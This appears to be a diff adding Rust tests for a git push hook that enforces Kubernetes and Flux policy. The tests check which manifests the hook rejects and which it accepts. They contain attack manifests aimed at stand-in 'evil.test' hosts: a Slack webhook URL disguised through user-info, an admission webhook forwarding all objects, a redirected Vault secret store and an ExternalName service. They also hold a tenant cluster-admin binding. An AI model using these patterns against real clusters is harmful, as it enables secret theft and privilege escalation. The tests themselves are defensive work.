@@ -3,6 +3,7 @@
 
 mod common;
 
+use common::gpg::*;
 use common::*;
 
 const POLICY: &str = r#"version = 1
@@ -229,4 +230,328 @@ fn pod_security_levels_through_the_hook() {
         assert!(r.out.contains("object: Deployment prod/api"), "{what}: {r:?}");
         f.git(&["reset", "-q", "--hard", "origin/main"]);
     }
+}
+
+/// Flux multi-tenancy at push time: a tenant's path may hold namespaced objects only; the
+/// same ClusterRoleBinding in the platform's path is accepted.
+#[test]
+fn a_cluster_scoped_object_in_a_tenant_path_is_rejected() {
+    let policy = format!(
+        "{POLICY}\n[[manifests]]\nmatch = [\"tenants/**/*.yaml\"]\nrules = [\"cluster-scoped\"]\n"
+    );
+    let f = Fixture::new(&policy);
+    f.commit("apps/api.yaml", DEPLOYMENT, "api");
+    assert_accepted(&f.push(&["origin", "main"]));
+    let binding = "apiVersion: rbac.authorization.k8s.io/v1
+kind: ClusterRoleBinding
+metadata:
+  name: team-a-admin
+roleRef:
+  apiGroup: rbac.authorization.k8s.io
+  kind: ClusterRole
+  name: cluster-admin
+subjects:
+- kind: ServiceAccount
+  name: team-a
+  namespace: team-a
+";
+    f.commit("tenants/team-a/rbac.yaml", binding, "tenant rbac");
+    let r = f.push(&["origin", "main"]);
+    assert_rejected(&r);
+    assert!(
+        r.out.contains("error[cluster-scoped] refs/heads/main"),
+        "{r:?}"
+    );
+    assert!(
+        r.out.contains("path:   tenants/team-a/rbac.yaml:2:"),
+        "{r:?}"
+    );
+    assert!(r.out.contains("ClusterRoleBinding team-a-admin"), "{r:?}");
+    f.git(&["reset", "-q", "--hard", "origin/main"]);
+    // Control: a RoleBinding in the tenant's namespace, and the platform's own binding.
+    let role_binding = binding
+        .replace("kind: ClusterRoleBinding", "kind: RoleBinding")
+        .replace(
+            "name: team-a-admin\n",
+            "name: team-a-admin\n  namespace: team-a\n",
+        )
+        .replace("name: cluster-admin", "name: admin");
+    f.commit("tenants/team-a/rbac.yaml", &role_binding, "tenant rbac");
+    f.commit("clusters/prod/team-a.yaml", binding, "platform rbac");
+    assert_accepted(&f.push(&["origin", "main"]));
+}
+
+/// `external-endpoints` next to `gitops-sources`: the allowlist of what the cluster may contact.
+fn endpoints_fixture() -> Fixture {
+    let policy = POLICY.replace(
+        "\"gitops-sources\",",
+        "\"gitops-sources\", \"external-endpoints\",",
+    ) + "allowed_endpoints = [\"https://hooks.slack.com/services/\", \"https://vault.example.com:8200/\", \"*.svc.cluster.local\"]\n";
+    let f = Fixture::new(&policy);
+    f.commit("apps/api.yaml", DEPLOYMENT, "api");
+    assert_accepted(&f.push(&["origin", "main"]));
+    f
+}
+
+/// Flux's notification docs: a Slack Provider and the Alert that uses it.
+const PROVIDER: &str = "apiVersion: notification.toolkit.fluxcd.io/v1beta3
+kind: Provider
+metadata:
+  name: slack-bot
+  namespace: prod
+spec:
+  type: slack
+  channel: general
+  address: https://hooks.slack.com/services/T000/B000/XXXX
+---
+apiVersion: notification.toolkit.fluxcd.io/v1beta3
+kind: Alert
+metadata:
+  name: slack
+  namespace: prod
+spec:
+  providerRef:
+    name: slack-bot
+  eventSeverity: info
+  eventSources:
+    - kind: Kustomization
+      name: '*'
+";
+
+#[test]
+fn alerts_and_webhooks_to_outside_hosts_are_rejected() {
+    let f = endpoints_fixture();
+    // Control: the Slack webhook the policy allows.
+    f.commit("clusters/prod/alerts.yaml", PROVIDER, "alerts");
+    assert_accepted(&f.push(&["origin", "main"]));
+    // Attack: the same host as user information in front of the real one.
+    f.commit(
+        "clusters/prod/alerts.yaml",
+        &PROVIDER.replace(
+            "https://hooks.slack.com/services/T000/B000/XXXX",
+            "https://hooks.slack.com@collector.evil.test/services/x",
+        ),
+        "alerts elsewhere",
+    );
+    let r = f.push(&["origin", "main"]);
+    assert_rejected(&r);
+    assert!(
+        r.out.contains("error[external-endpoints] refs/heads/main"),
+        "{r:?}"
+    );
+    assert!(
+        r.out.contains("path:   clusters/prod/alerts.yaml:9:"),
+        "{r:?}"
+    );
+    assert!(
+        r.out.contains("Provider prod/slack-bot") && r.out.contains("spec.address"),
+        "{r:?}"
+    );
+    f.git(&["reset", "-q", "--hard", "origin/main"]);
+    // An admission webhook that sends every reviewed object outside.
+    let webhook = |client: &str| {
+        format!(
+            "apiVersion: admissionregistration.k8s.io/v1
+kind: ValidatingWebhookConfiguration
+metadata:
+  name: policy
+webhooks:
+- name: validate.policy.example.com
+  admissionReviewVersions: [v1]
+  sideEffects: None
+  clientConfig:
+    {client}
+  rules:
+  - apiGroups: ['*']
+    apiVersions: ['*']
+    operations: [CREATE, UPDATE]
+    resources: ['*']
+"
+        )
+    };
+    f.commit(
+        "clusters/prod/webhook.yaml",
+        &webhook("url: https://audit.evil.test/review"),
+        "webhook",
+    );
+    let r = f.push(&["origin", "main"]);
+    assert_rejected(&r);
+    assert!(
+        r.out.contains("error[external-endpoints]")
+            && r.out.contains("webhooks[0].clientConfig.url"),
+        "{r:?}"
+    );
+    f.git(&["reset", "-q", "--hard", "origin/main"]);
+    f.commit(
+        "clusters/prod/webhook.yaml",
+        &webhook("service: {name: policy, namespace: policy, path: /validate}"),
+        "webhook",
+    );
+    assert_accepted(&f.push(&["origin", "main"]));
+}
+
+#[test]
+fn secret_stores_and_external_names_outside_the_allowlist_are_rejected() {
+    let f = endpoints_fixture();
+    // External Secrets' Vault provider, as in its docs.
+    let store = |server: &str| {
+        format!(
+            "apiVersion: external-secrets.io/v1
+kind: ClusterSecretStore
+metadata:
+  name: vault-backend
+spec:
+  provider:
+    vault:
+      server: \"{server}\"
+      path: secret
+      version: v2
+      auth:
+        kubernetes:
+          mountPath: kubernetes
+          role: external-secrets
+"
+        )
+    };
+    f.commit(
+        "clusters/prod/store.yaml",
+        &store("https://vault.example.com:8200"),
+        "store",
+    );
+    assert_accepted(&f.push(&["origin", "main"]));
+    f.commit(
+        "clusters/prod/store.yaml",
+        &store("https://vault.evil.test:8200"),
+        "store moved",
+    );
+    let r = f.push(&["origin", "main"]);
+    assert_rejected(&r);
+    assert!(
+        r.out.contains("error[external-endpoints]")
+            && r.out.contains("ClusterSecretStore vault-backend")
+            && r.out.contains("spec.provider.vault.server"),
+        "{r:?}"
+    );
+    f.git(&["reset", "-q", "--hard", "origin/main"]);
+    let service = |name: &str| {
+        format!(
+            "apiVersion: v1\nkind: Service\nmetadata:\n  name: db\n  namespace: prod\nspec:\n  type: ExternalName\n  externalName: {name}\n"
+        )
+    };
+    f.commit("apps/db.yaml", &service("db.evil.test"), "external db");
+    let r = f.push(&["origin", "main"]);
+    assert_rejected(&r);
+    assert!(
+        r.out.contains("error[external-endpoints]")
+            && r.out.contains("Service prod/db")
+            && r.out.contains("spec.externalName"),
+        "{r:?}"
+    );
+    f.git(&["reset", "-q", "--hard", "origin/main"]);
+    f.commit(
+        "apps/db.yaml",
+        &service("postgres.databases.svc.cluster.local"),
+        "in-cluster db",
+    );
+    assert_accepted(&f.push(&["origin", "main"]));
+}
+
+/// `secret-stores`: a namespace's ExternalSecrets read only the ClusterSecretStores allowed for
+/// it, and a ClusterSecretStore changes only with an SRE signature.
+#[test]
+fn external_secrets_and_cluster_secret_stores_through_the_hook() {
+    let s = Setup::new("version = 1\n");
+    let sam = s.gpg.key("Sam Sre <sam@example.com>", "ed25519");
+    s.gpg.export(&sam, &s.keys.join("sam.asc"));
+    s.f.set_policy(&format!(
+        r#"version = 1
+[keys]
+openpgp = ["{keys}/*.asc"]
+[groups]
+sre = ["openpgp:{sam}"]
+[[manifests]]
+match = ["clusters/**/*.yaml", "apps/**/*.yaml"]
+rules = ["secret-stores"]
+secret_stores = {{ "team-a" = ["vault-backend"] }}
+signers = ["sre"]
+"#,
+        keys = s.keys.display()
+    ));
+    let f = &s.f;
+    f.commit("README", "fleet\n", "base");
+    assert_accepted(&f.push(&["-q", "origin", "main"]));
+    // External Secrets' docs: a Vault ClusterSecretStore and an ExternalSecret reading from it.
+    let store = |path: &str| {
+        format!(
+            "apiVersion: external-secrets.io/v1
+kind: ClusterSecretStore
+metadata:
+  name: vault-backend
+spec:
+  provider:
+    vault:
+      server: https://vault.example.com:8200
+      path: {path}
+      version: v2
+      auth:
+        kubernetes: {{mountPath: kubernetes, role: external-secrets}}
+"
+        )
+    };
+    f.commit("clusters/prod/store.yaml", &store("secret"), "store");
+    let r = f.push(&["origin", "main"]);
+    assert_rejected(&r);
+    assert!(
+        r.out.contains("error[secret-stores]")
+            && r.out.contains("ClusterSecretStore vault-backend"),
+        "{r:?}"
+    );
+    // Signed by an SRE: accepted.
+    f.git(&["reset", "-q", "--hard", "HEAD~1"]);
+    s.sign_with(&sam);
+    s.commit_signed("clusters/prod/store.yaml", &store("secret"), "store");
+    assert_accepted(&s.push(&["origin", "main"]));
+    f.git(&["config", "--unset", "user.signingkey"]);
+    let external = |ns: &str| {
+        format!(
+            "apiVersion: external-secrets.io/v1
+kind: ExternalSecret
+metadata:
+  name: db
+  namespace: {ns}
+spec:
+  refreshInterval: 1h
+  secretStoreRef:
+    name: vault-backend
+    kind: ClusterSecretStore
+  target:
+    name: db
+  data:
+  - secretKey: password
+    remoteRef:
+      key: team-a/db
+      property: password
+"
+        )
+    };
+    f.commit(
+        "apps/team-b/db.yaml",
+        &external("team-b"),
+        "team-b reads team-a",
+    );
+    let r = f.push(&["origin", "main"]);
+    assert_rejected(&r);
+    assert!(
+        r.out.contains("error[secret-stores]")
+            && r.out.contains("ExternalSecret team-b/db")
+            && r.out.contains("path:   apps/team-b/db.yaml:9:"),
+        "{r:?}"
+    );
+    f.git(&["reset", "-q", "--hard", "origin/main"]);
+    f.commit(
+        "apps/team-a/db.yaml",
+        &external("team-a"),
+        "team-a reads its store",
+    );
+    assert_accepted(&f.push(&["origin", "main"]));
 }
